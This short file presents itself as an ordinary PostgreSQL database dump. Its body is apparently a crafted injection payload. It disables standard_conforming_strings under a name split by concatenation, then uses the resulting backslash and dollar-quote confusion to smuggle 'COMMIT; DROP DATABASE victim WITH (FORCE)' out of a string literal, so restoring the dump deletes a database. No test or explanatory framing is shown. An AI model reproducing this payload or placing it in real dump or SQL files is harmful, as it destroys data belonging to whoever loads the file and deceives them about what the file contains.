--
-- PostgreSQL database dump
--

SET client_encoding = 'UTF8';
CREATE TABLE public.t (a text);
SELECT set_config('standard_conforming_' || 'strings', 'off', false);
SELECT 'a\'; SELECT $q$'; COMMIT; DROP DATABASE victim WITH (FORCE); --$q$;

--
-- PostgreSQL database dump complete
--
